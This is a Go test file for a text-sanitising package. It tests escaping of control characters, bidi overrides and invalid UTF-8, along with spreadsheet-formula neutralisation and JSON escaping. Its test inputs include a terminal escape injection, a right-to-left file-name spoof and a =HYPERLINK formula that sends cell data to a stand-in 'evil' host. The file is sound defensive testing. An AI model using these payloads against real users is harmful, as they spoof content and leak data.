package safetext

import (
	"encoding/json"
	"maps"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestClean(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"plain", "SYS-E300 Supermicro", "SYS-E300 Supermicro"},
		{"non-ASCII text stays", "Gerät é 设备", "Gerät é 设备"},
		{"backslash stays", `back\slash`, `back\slash`},
		{"newline, CR, tab by name", "disk\nnot found\r\tat", `disk\nnot found\r\tat`},
		{"NUL", "a\x00b", `a\x00b`},
		{"ESC: CSI and OSC", "\x1b]0;pwned\x07\x1b[2J", `\x1b]0;pwned\x07\x1b[2J`},
		{"every C0", "\x01\x08\x0b\x0c\x1f", `\x01\x08\x0b\x0c\x1f`},
		{"DEL", "a\x7fb", `a\x7fb`},
		{"C1 as runes: CSI, NEL, OSC", "S\u009b2J\u0085\u009d", `S\u009b2J\u0085\u009d`},
		{"C1 range ends", "\u0080\u009f", `\u0080\u009f`},
		{"bidi embeddings and overrides", "\u202a\u202b\u202c\u202d\u202e", `\u202a\u202b\u202c\u202d\u202e`},
		{"bidi isolates", "\u2066\u2067\u2068\u2069", `\u2066\u2067\u2068\u2069`},
		{"bidi marks", "\u200e\u200f\u061c", `\u200e\u200f\u061c`},
		{"override reversing a name", "invoice\u202efdp.exe", `invoice\u202efdp.exe`},
		{"zero-width and BOM", "a\u200bb\ufeff", `a\u200bb\ufeff`},
		{"line and paragraph separators", "a\u2028b\u2029", `a\u2028b\u2029`},
		{"tag characters", "x\U000e0041", `x\U000e0041`},
		{"invalid UTF-8 bytes", "ok\xff\xfe", `ok\xff\xfe`},
		{"C1 as a raw byte (not UTF-8)", "S\x9b2J", `S\x9b2J`},
		{"truncated rune", "a\xe2\x82", `a\xe2\x82`},
		{"overlong encoding of '/'", "\xc0\xaf", `\xc0\xaf`},
		{"surrogate half", "\xed\xa0\x80", `\xed\xa0\x80`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := Clean(tc.in, 0)
			if got != tc.want {
				t.Fatalf("Clean(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if again := Clean(got, 0); again != got {
				t.Fatalf("not idempotent: %q → %q", got, again)
			}
			if Line(tc.in) != got {
				t.Fatalf("Line(%q) = %q, want Clean's %q", tc.in, Line(tc.in), got)
			}
			checkSafe(t, got)
		})
	}
}

// checkSafe fails unless s is valid UTF-8 with nothing Clean escapes.
func checkSafe(t *testing.T, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Fatalf("%q is not valid UTF-8", s)
	}
	if i := strings.IndexFunc(s, escaped); i >= 0 {
		t.Fatalf("%q keeps %U at %d", s, []rune(s[i:])[0], i)
	}
}

func TestCleanBound(t *testing.T) {
	for _, tc := range []struct {
		name, in string
		limit    int
		want     string
	}{
		{"within", "abc", 3, "abc"},
		{"cut", strings.Repeat("x", 5000), 1024, strings.Repeat("x", 1024)},
		{"never half a rune", "ab€", 4, "ab"},
		{"never half an escape", "abc\x1b", 6, "abc"},
		{"an escape that fits", "abc\x1b", 7, `abc\x1b`},
		{"never half a byte escape", "abc\xff", 5, "abc"},
		{"escapes count", strings.Repeat("\u009b", 100), 20, strings.Repeat(`\u009b`, 3)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := Clean(tc.in, tc.limit)
			if got != tc.want || len(got) > tc.limit {
				t.Fatalf("Clean(%.20q…, %d) = %q, want %q", tc.in, tc.limit, got, tc.want)
			}
			if again := Clean(got, tc.limit); again != got {
				t.Fatalf("not idempotent: %q → %q", got, again)
			}
			checkSafe(t, got)
		})
	}
	// A megabyte of escapes costs one bounded pass, not a megabyte of output.
	huge := strings.Repeat("\x1b", 1<<20)
	if got := Clean(huge, 256); len(got) != 256 {
		t.Fatalf("Clean of 1 MiB of ESC to 256 bytes: %d bytes", len(got))
	}
}

func TestCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"SN-1", "SN-1"},
		{"=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")"},
		{"+1", "'+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'=already quoted", "''=already quoted"},
		{"''+", "'''+"},
		{"'plain", "'plain"}, // a quote before harmless text needs none
		{"'", "'"},
		{"a=b", "a=b"},
	} {
		got := Cell(tc.in)
		if got != tc.want {
			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if got != "" && dangerous(got[0]) {
			t.Errorf("Cell(%q) = %q begins with a formula character", tc.in, got)
		}
		if back := Uncell(got); back != tc.in {
			t.Errorf("Uncell(Cell(%q)) = %q", tc.in, back)
		}
	}
	// A hand-written manifest may quote a cell as a spreadsheet would.
	for in, want := range map[string]string{"'=x": "=x", "'-1": "-1", "'plain": "'plain", "x'=": "x'="} {
		if got := Uncell(in); got != want {
			t.Errorf("Uncell(%q) = %q, want %q", in, got, want)
		}
	}
}

func FuzzClean(f *testing.F) {
	for _, s := range []string{"plain", "\x1b]0;pwned\x07", "S\u009b\u202e", "\xff\xfe", `a\x1b`, "'=x", "-1"} {
		f.Add(s, 16)
	}
	f.Fuzz(func(t *testing.T, s string, limit int) {
		limit %= 4096
		got := Clean(s, limit)
		checkSafe(t, got)
		if limit > 0 && len(got) > limit {
			t.Fatalf("Clean(%q, %d) is %d bytes", s, limit, len(got))
		}
		if Clean(got, limit) != got || Line(got) != got {
			t.Fatalf("not idempotent on %q", got)
		}
		if c := Cell(s); Uncell(c) != s || (c != "" && dangerous(c[0])) {
			t.Fatalf("Cell(%q) = %q", s, c)
		}
	})
}

// JSON escapes what encoding/json leaves raw, and the value stays the
// same.
func TestJSON(t *testing.T) {
	v := map[string]string{"serial": "SN\u009b2J\u202e\u2066x\u2028\U000e0041 é 设备", "plain": "ok"}
	raw, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	got := JSON(raw)
	checkSafe(t, string(got))
	if want := `\u009b2J\u202e\u2066x\u2028\udb40\udc41 é 设备`; !strings.Contains(string(got), want) {
		t.Fatalf("JSON(%s) = %s, want it to contain %s", raw, got, want)
	}
	var back map[string]string
	if err := json.Unmarshal(got, &back); err != nil || !maps.Equal(back, v) {
		t.Fatalf("JSON changed the value: %q, %v", back, err)
	}
	if plain := []byte(`{"a":"é"}`); &JSON(plain)[0] != &plain[0] {
		t.Fatal("JSON copied text that needs no escape")
	}
}
